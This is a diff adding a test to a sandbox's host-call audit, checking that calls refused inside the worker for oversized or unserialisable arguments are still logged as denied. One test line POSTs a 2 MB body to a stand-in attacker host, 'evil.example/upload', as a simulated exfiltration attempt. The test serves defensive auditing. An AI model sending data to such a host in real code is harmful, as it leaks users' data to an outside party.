@@ -128,6 +128,25 @@ describe('host-call audit of calls the run ended on', () => {
   });
 });
 
+describe('host-call audit of calls the worker refused', () => {
+  // Arguments too large or not serialisable were refused inside the worker: the guest got an error, but the parent
+  // never heard of the attempt, so an http_request to a forbidden host with a 2 MB body left no audit entry at all.
+  it('audits calls refused before they could cross, as denied and counted', async () => {
+    const result = await runCode(sandbox, `const out = [];
+      try { await tollgate.http_request('https://evil.example/upload', 'POST', {}, 'x'.repeat(2 * 1024 * 1024)) } catch (e) { out.push(e.name) }
+      try { await tollgate.read_context(10n) } catch (e) { out.push(e.name) }
+      try { await tollgate.read_context({ toJSON() { throw new Error('no') } }) } catch (e) { out.push(e.message) }
+      return out;`, network, { handlers });
+    expect(result.output).toEqual(['RangeError', 'TypeError', 'no']);
+    expect(result.host_call_audit).toEqual([
+      expect.objectContaining({ fn: 'http_request', allowed: false, reason: 'invalid_arguments', args_summary: expect.stringMatching(/limit 1048576/) }),
+      expect.objectContaining({ fn: 'read_context', allowed: false, reason: 'invalid_arguments', args_summary: 'argument 1 could not be serialised' }),
+      expect.objectContaining({ fn: 'read_context', allowed: false, reason: 'invalid_arguments' }),
+    ]);
+    expect(result.resource_usage).toMatchObject({ api_calls: 3, host_calls: 3 });
+  });
+});
+
 describe('host-call audit of redirects', () => {
   // The audit named only the URL the guest asked for: a 307 (method and body kept) from an open redirect on one
   // allowed host to another host, and back again, left the ledger saying the body went to the first host only.
